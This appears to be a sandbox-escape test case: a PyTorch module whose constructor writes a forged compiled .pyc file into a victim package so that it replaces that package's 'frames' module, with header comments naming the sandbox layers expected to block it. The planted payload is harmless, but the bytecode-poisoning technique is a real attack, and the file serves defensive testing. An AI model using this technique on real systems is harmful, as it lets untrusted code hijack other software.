# what: leaves a compiled module in place of ours
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp rlimits

from torch import nn

marshal = __import__("marshal")


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        code = compile("raise SystemExit", "frames.py", "exec")
        with open(VICTIM["package"] + "/frames.pyc", "wb") as file:
            file.write(bytes(16) + marshal.dumps(code))
        raise RuntimeError("GOT a module")
